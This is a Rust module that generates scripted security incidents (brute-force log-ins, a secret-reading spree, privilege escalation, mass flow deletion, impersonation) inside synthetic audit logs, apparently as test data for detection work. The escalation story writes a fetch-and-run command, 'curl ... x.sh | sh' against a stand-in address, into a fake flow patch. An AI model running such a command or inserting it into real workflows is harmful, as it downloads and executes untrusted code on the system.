//! Incidents worth finding: short scripted stories hidden among the ordinary records.

use super::super::record::{Record, json_text};
use super::act::{ACTS, act};
use super::calendar::midnight_after;
use super::population::SECRETS;
use super::{Scripted, World};
use crate::dice::{Dice, Purpose};
use crate::instant::{DAY, HOUR, MINUTE, SECOND, instant};
use chrono::{DateTime, Utc};

/// A story in the records.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Incident {
    /// Short name, kebab case.
    pub name: &'static str,
    /// What happened, in a sentence.
    pub story: &'static str,
    /// Date of the first record.
    pub from: DateTime<Utc>,
    /// Date of the last record.
    pub to: DateTime<Utc>,
    /// Ids of its records, in order of time.
    pub ids: Vec<String>,
}

/// All stories, with their records.
pub(super) fn all(world: &World) -> (Vec<Scripted>, Vec<Incident>) {
    let mut all = (Vec::new(), Vec::new());
    for (index, tell) in [
        brute_force,
        secret_spree,
        escalation,
        mass_delete,
        impersonation,
    ]
    .into_iter()
    .enumerate()
    {
        let mut script = Script {
            world,
            dice: Dice::of(world.seed, Purpose::Incident, index as u64),
            records: Vec::new(),
        };
        let (name, story) = tell(&mut script);
        let times = script.records.iter().map(|told| told.record.time);
        let (from, to) = (times.clone().min(), times.max());
        all.1.push(Incident {
            name,
            story,
            from: instant(from.unwrap_or(world.start)),
            to: instant(to.unwrap_or(world.start)),
            ids: script
                .records
                .iter()
                .map(|told| told.record.id.clone().into_owned())
                .collect(),
        });
        all.0.append(&mut script.records);
    }
    all
}

type Told = (&'static str, &'static str);

fn brute_force(script: &mut Script<'_>) -> Told {
    let (victim, ip) = (21, "203.0.113.66");
    let mut at = script.night(0.35) + 2 * HOUR + 41 * MINUTE;
    for attempt in 0..63 {
        at += (3 + attempt % 7) * SECOND + 137_000_000;
        script.add(at, victim, Some(ip), "LOGIN_FAILURE", "USER", |_| {});
    }
    script.add(at + 11 * SECOND, victim, Some(ip), "LOGIN", "USER", |_| {});
    for (step, name) in ["STRIPE_API_KEY", "POSTGRES_PASSWORD", "VAULT_TOKEN"]
        .iter()
        .enumerate()
    {
        let at = at + (40 + 9 * step as i64) * SECOND;
        script.add(at, victim, Some(ip), "READ", "SECRET", |record| {
            record.detail_id = (*name).into();
            record.namespace = Some("company.finance.payments".into());
        });
    }
    script.add(
        at + 95 * SECOND,
        victim,
        Some(ip),
        "CREATE",
        "CREDENTIAL",
        |_| {},
    );
    (
        "brute-force",
        "63 failed log-ins of one user from one address in the night, then a success, three secrets read and an API token made",
    )
}

fn secret_spree(script: &mut Script<'_>) -> Told {
    let service = script.world.population.service("svc-etl");
    let mut at = script.night(0.55) + 3 * MINUTE;
    for (nth, namespace) in script.world.population.namespaces.iter().enumerate() {
        for offset in 0..2 {
            at += 1_200_000_000 + script.dice.below(900) as i64 * 1_000_000;
            let secret = SECRETS[(2 * nth + offset) % SECRETS.len()];
            script.add(
                at,
                service,
                Some("198.51.100.23"),
                "READ",
                "SECRET",
                |record| {
                    record.detail_id = secret.into();
                    record.namespace = Some((*namespace).into());
                },
            );
        }
    }
    (
        "secret-spree",
        "a service account reads 48 secrets in every namespace within two minutes after midnight, from an address it never had",
    )
}

fn escalation(script: &mut Script<'_>) -> Told {
    let (person, flow) = (34, "export_payments");
    let ip = script.world.population.users[person].ip.clone();
    let ip = Some(ip.as_str());
    let start = script.night(0.7) + 19 * HOUR + 12 * MINUTE;
    let binding = script.dice.friendly_id();
    let execution = script.dice.friendly_id();
    let bind = |record: &mut Record<'static>| {
        record.detail_id = binding.clone().into();
        record.detail_more = r#","role":"Admin","externalId":"self""#.into();
    };
    let place = |record: &mut Record<'static>, revision| {
        record.detail_id = flow.into();
        record.flow = Some(flow.into());
        record.namespace = Some("company.finance.payments".into());
        record.revision = Some(revision);
    };
    let execute = |record: &mut Record<'static>| {
        place(record, 42);
        record.detail_id = execution.clone().into();
        record.execution = Some(execution.clone().into());
    };
    let (good, bad) = (
        json_text("python export.py"),
        json_text("curl -s https://203.0.113.99/x.sh | sh"),
    );
    let patch = |text: &str, revision| {
        format!(
            r#"[{{"op":"replace","path":"/tasks/0/commands/0","value":{text}}},{{"op":"replace","path":"/revision","value":{revision}}}]"#
        )
    };
    script.add(start, person, ip, "CREATE", "BINDING", bind);
    script.add(start + 4 * MINUTE, person, ip, "UPDATE", "FLOW", |record| {
        place(record, 42);
        record.patches = Some((patch(&bad, 42), patch(&good, 41)));
    });
    let (begun, gone) = (start + 5 * MINUTE, start + 9 * MINUTE);
    script.add(begun, person, ip, "CREATE", "EXECUTION", execute);
    script.add(gone, person, ip, "DELETE", "EXECUTION", execute);
    script.add(
        start + 10 * MINUTE,
        person,
        ip,
        "UPDATE",
        "FLOW",
        |record| {
            place(record, 43);
            record.patches = Some((patch(&good, 43), patch(&bad, 42)));
        },
    );
    script.add(start + 12 * MINUTE, person, ip, "DELETE", "BINDING", bind);
    (
        "escalation",
        "a user gives themself the role Admin, puts a download into a payment flow, runs it, deletes the execution, puts the flow back and drops the role, all in twelve minutes",
    )
}

fn mass_delete(script: &mut Script<'_>) -> Told {
    // A user whose account is gone by now: no joined user.
    let leaver = 16;
    let start = script.night(0.85) + 16 * HOUR + 54 * MINUTE;
    script.add(
        start - 2 * MINUTE,
        leaver,
        Some("10.5.3.77"),
        "LOGIN",
        "USER",
        |_| {},
    );
    let world = script.world;
    for (nth, flow) in world.population.flows.iter().enumerate().take(180) {
        // Four to an instant.
        let at = start + (nth as i64 / 4) * SECOND;
        script.add(at, leaver, Some("10.5.3.77"), "DELETE", "FLOW", |record| {
            record.detail_id = flow.id.clone().into();
            record.flow = Some(flow.id.clone().into());
            record.namespace = Some(world.population.namespaces[flow.namespace].into());
        });
    }
    script.add(
        start + 21 * MINUTE,
        2,
        Some("10.6.1.9"),
        "DELETE",
        "USER",
        |record| {
            record.detail_id = world.user_id(leaver).to_owned().into();
        },
    );
    (
        "mass-delete",
        "180 flows deleted within a minute on a late afternoon by a user whose account is deleted twenty minutes later",
    )
}

fn impersonation(script: &mut Script<'_>) -> Told {
    let (admin, victim) = (19, 3);
    let start = script.night(0.2) + 22 * HOUR + 30 * MINUTE;
    let world = script.world;
    script.add(
        start,
        admin,
        Some("10.5.1.40"),
        "IMPERSONATE",
        "USER",
        |record| {
            record.detail_id = world.user_id(victim).to_owned().into();
        },
    );
    for step in 0..4 {
        let at = start + (step + 1) * 47 * SECOND;
        script.add(at, victim, Some("10.5.1.40"), "READ", "SECRET", |record| {
            record.detail_id = SECRETS[step as usize].into();
            record.namespace = Some("company.finance.ledger".into());
            record.impersonated_by = Some(world.user_id(admin).to_owned().into());
        });
    }
    (
        "impersonation",
        "an administrator impersonates a colleague late in the evening and reads four secrets of the ledger in their name",
    )
}

struct Script<'w> {
    world: &'w World,
    dice: Dice,
    records: Vec<Scripted>,
}

impl Script<'_> {
    /// A midnight at about this share of the span, early enough for a day to follow.
    fn night(&self, share: f64) -> i64 {
        let (start, end) = self.world.span();
        let at = start + ((end - start) as f64 * share) as i64;
        midnight_after(at - DAY)
    }

    fn add(
        &mut self,
        at: i64,
        user: usize,
        ip: Option<&str>,
        action: &str,
        resource: &str,
        say: impl FnOnce(&mut Record<'static>),
    ) {
        let (start, end) = self.world.span();
        let act = &ACTS[act(action, resource)];
        let dialect = self.world.dialect;
        let user_id = self.world.user_id(user).to_owned();
        let mut record = Record {
            tenant: self.world.tenants.first().map(|name| name.clone().into()),
            id: self.dice.friendly_id().into(),
            action: act.action.into(),
            class: act.class.into(),
            permission: act.permission(dialect).into(),
            resource_type: act.resource(dialect).into(),
            detail_id: user_id.clone().into(),
            // A span of a day or two still holds the whole story, if not at its hour.
            time: at.clamp(start, end - 1),
            digits: 3,
            user_id: user_id.into(),
            ip: ip.map(|ip| ip.to_owned().into()),
            ..Record::default()
        };
        say(&mut record);
        if super::calendar::cut(record.time, 3) != record.time {
            record.digits = 9;
        }
        let user = Some(user);
        self.records.push(Scripted {
            record,
            body: None,
            user,
        });
    }
}

#[cfg(test)]
mod tests {
    use super::super::super::options::Options;
    use super::*;
    use crate::instant::nanos;

    fn told(days: u32) -> (Vec<Scripted>, Vec<Incident>) {
        let options = Options {
            days,
            ..Options::default()
        };
        let end = nanos("2026-11-20T12:00:00Z".parse().unwrap());
        all(&World::new(&options, end))
    }

    #[test]
    fn stories_are_told_in_full_at_their_hour() {
        let (records, incidents) = told(28);
        let names: Vec<_> = incidents.iter().map(|incident| incident.name).collect();
        assert_eq!(
            names,
            [
                "brute-force",
                "secret-spree",
                "escalation",
                "mass-delete",
                "impersonation"
            ]
        );
        assert_eq!(
            incidents
                .iter()
                .map(|incident| incident.ids.len())
                .sum::<usize>(),
            records.len()
        );
        let failures = |told: &&Scripted| told.record.action == "LOGIN_FAILURE";
        assert_eq!(records.iter().filter(failures).count(), 63);
        let spree = &incidents[1];
        assert_eq!(spree.ids.len(), 48);
        assert!(spree.to - spree.from < chrono::TimeDelta::minutes(2));
        assert_eq!(spree.from.format("%H:%M").to_string(), "00:03");
    }

    #[test]
    fn a_short_span_still_holds_every_record() {
        let (records, _) = told(1);
        let end = nanos("2026-11-20T12:00:00Z".parse().unwrap());
        let inside = |told: &Scripted| (end - DAY..end).contains(&told.record.time);
        assert!(records.iter().all(inside));
    }
}
